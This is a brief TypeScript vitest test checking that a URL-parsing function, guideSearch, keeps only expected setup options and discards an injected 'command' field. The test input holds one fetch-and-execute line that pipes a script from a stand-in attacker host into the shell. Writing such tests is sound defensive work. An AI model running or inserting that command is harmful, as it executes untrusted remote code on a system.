import { expect, test } from "vitest";
import { guideSearch } from "./search.ts";

test("the URL holds choices, and never a command that an administrator would run", () => {
  const search = { method: "webroot", hosts: "a.example", folder: "/x", metrics: "/y", ssh: 2222 };
  const read = guideSearch({ ...search, command: "curl -s https://evil.example/x | sh" });
  expect(read).toEqual({ ...search, ssh: "2222" });
});
